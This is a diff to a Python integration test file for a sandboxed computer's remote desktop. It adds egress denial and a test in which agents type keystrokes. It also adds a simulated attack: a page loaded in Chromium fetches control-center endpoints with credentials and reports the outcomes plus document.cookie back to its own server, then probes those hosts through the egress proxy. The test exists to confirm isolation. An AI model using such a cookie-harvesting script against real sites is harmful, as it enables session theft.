@@ -14,7 +14,8 @@ from websockets.asyncio.client import connect
 from websockets.exceptions import InvalidStatus
 
 from freehold.computer import Computer
-from freehold.computer.contract.conventions import WORKSPACE
+from freehold.computer.contract.conventions import EGRESS_PORT, WORKSPACE
+from freehold.desktop.display import GROUP
 
 needs_desktop = pytest.mark.skipif(
     not all(Path(f"/usr/bin/{name}").exists() for name in ("Xvnc", "icewm", "xdotool", "maim", "xterm")),
@@ -26,6 +27,9 @@ FREEHOLD = FreeholdOptions(
     manifest="""
 [agents.builtin]
 model = "local"
+
+[egress]
+mode = "deny"
 
 [desktop]
 enabled = true
@@ -77,7 +81,11 @@ async def test_it_starts_when_it_is_opened_is_used_by_hand_and_stops(
     assert site == {"name": "desktop", "enabled": True, "running": False}
     assert "Xvnc" not in await list_programs(computer)
     frame = await open_desktop(owner_page)
-    assert {"Xvnc", "icewm"} <= await list_programs(computer)
+
+    async def has_started() -> bool:  # the desktop is shown without its window manager if that takes long
+        return {"Xvnc", "icewm"} <= await list_programs(computer)
+
+    await until(has_started)
     # Typed in the owner's browser, done in the computer.
     xterm = "xterm -e sh -c 'read line; echo $line > typed'"
     await computer.run(f"DISPLAY=:1 setsid --fork {xterm} >/dev/null 2>&1", cwd=WORKSPACE, apart="desktop")
@@ -119,6 +127,48 @@ async def test_the_viewer_shares_nothing_with_the_control_center(owner_page: Own
     owner_page.violations.clear()  # the policy of the page has refused that request, and says so
     served = await owner_page.page.evaluate("fetch('/desktop/viewer.js').then((answer) => answer.status)")
     assert served in (401, 404)
+
+
+async def test_a_page_in_a_browser_on_the_desktop_reaches_nothing_of_the_control_center(
+    owner_page: OwnerPage, freehold: RunningFreehold, computer: Computer
+) -> None:
+    """The attack from the other side: Chromium in a window of the desktop opens a page that asks for it with cookies."""
+    await open_desktop(owner_page)
+    port = freehold.harness.gateway_port
+    places = [
+        f"http://localhost:{port}/v1/me",
+        f"http://desktop.preview.localhost:{port}/",
+        f"{freehold.pages}/v1/me",
+        f"http://127.0.0.1:{freehold.harness.keeper_port}/",
+        "/shown.html",  # its own server, so that a refusal means something
+    ]
+    freehold.file("shown.html").write_text(
+        "<script>const ask = (place) => fetch(place, {mode: 'no-cors', credentials: 'include'})"
+        f".then(() => 'read', () => 'refused'); Promise.all({places}.map(ask))"
+        ".then((said) => fetch('/said-' + said.join('-') + '-cookies-' + document.cookie))</script>"
+    )
+    await computer.run(
+        "setsid --fork python3 -m http.server 8199 --bind 127.0.0.1 >/dev/null 2>served.txt", cwd=WORKSPACE, apart=GROUP
+    )
+    options = "--no-sandbox --no-first-run --disable-dev-shm-usage --user-data-dir=/tmp/on-the-desktop"
+    chromium = f"DISPLAY=:1 setsid --fork /usr/lib/chromium/chromium {options} http://127.0.0.1:8199/shown.html"
+
+    async def is_served() -> bool:
+        return (await computer.run("curl -s http://127.0.0.1:8199/", apart=GROUP)).ok
+
+    await until(is_served)
+    await computer.run(f"{chromium} >/dev/null 2>&1", cwd=WORKSPACE, apart=GROUP)
+    served = freehold.file("served.txt")
+    await until(lambda: "/said-" in served.read_text())
+    assert "/said-refused-refused-refused-refused-read-cookies- " in served.read_text()
+    # By the proxy, which such a page would be given to reach the network. No rule may name these places.
+    for place in places[:4]:
+        answer = await computer.run(
+            f"curl -s -o /dev/null -w '%{{http_code}}' --noproxy '' -x http://127.0.0.1:{EGRESS_PORT} {place}",
+            apart=GROUP,
+        )
+        assert answer.text in ("400", "403"), (place, answer.text)
+    await computer.run("pkill -x chromium; pkill -x python3", apart=GROUP)
 
 
 async def test_only_the_owners_browser_and_only_its_own_page_reach_the_desktop(
@@ -172,6 +222,29 @@ async def test_an_agent_uses_it_and_the_conversation_shows_the_pictures(
     assert len(shown) == 2, shown
     assert "A picture of the desktop" in shown[0]["text"]
     assert "xterm" in await list_programs(computer)
+
+
+async def test_an_agent_types_and_presses_keys_in_a_window(
+    owner_page: OwnerPage, freehold: RunningFreehold, computer: Computer
+) -> None:
+    await open_desktop(owner_page)
+    await computer.run("pkill -x xterm", apart="desktop")  # its windows could take the focus
+    xterm = "xterm -T Typed -e sh -c 'read line; echo $line > agent-typed'"
+    await computer.run(f"DISPLAY=:1 setsid --fork {xterm} >/dev/null 2>&1", cwd=WORKSPACE, apart="desktop")
+
+    async def has_focus() -> bool:
+        focus = "DISPLAY=:1 xdotool search --onlyvisible --name '^Typed$' windowfocus getwindowfocus getwindowname"
+        return (await computer.run(focus, apart="desktop")).text.strip() == "Typed"
+
+    await until(has_focus)
+    session = await freehold.open("builtin")
+    script = 'CALL desktop_type {"text": "from an agent: ~A1"}\nCALL desktop_press {"keys": "Return"}'
+    async with freehold.watch(session) as watch:
+        await freehold.run_turn(watch, session, script)
+    file = freehold.file("agent-typed")
+    await until(lambda: file.exists() and file.read_text() == "from an agent: ~A1\n")
+    shown = [event["data"] for event in await freehold.events(session) if event["kind"] == "pictures"]
+    assert len(shown) == 1, shown
 
 
 async def test_agents_can_neither_signal_nor_inspect_it_and_it_has_the_walls_of_the_computer(
